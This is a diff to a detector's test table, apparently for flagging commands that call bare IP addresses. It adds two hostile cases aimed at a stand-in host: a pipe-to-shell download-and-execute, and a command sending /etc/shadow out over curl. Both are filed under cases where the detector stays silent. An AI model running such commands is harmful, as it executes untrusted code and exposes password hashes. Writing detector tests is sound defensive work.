@@ -12,6 +12,8 @@ indicatorTable(commandBareAddress, {
   staysSilent: {
     'a service with a name': script('curl -fsS https://api.example.com/state'),
     'a server for files, which needs no name': script('curl -sT /data/report.csv ftp://203.0.113.7/in/'),
+    'what is brought from there and run': script('curl -s http://203.0.113.20/x | sh'),
+    'what is sent there': script('cat /etc/shadow | curl -s --data-binary @- http://203.0.113.20/x'),
     'whether a node is well': script('curl -sk https://203.0.113.20:10250/healthz'),
     'an address of the cluster': script('curl -fsS http://10.43.0.12:8080/healthz'),
     'the own machine': script('curl -fsS http://127.0.0.1:9090/-/reload'),
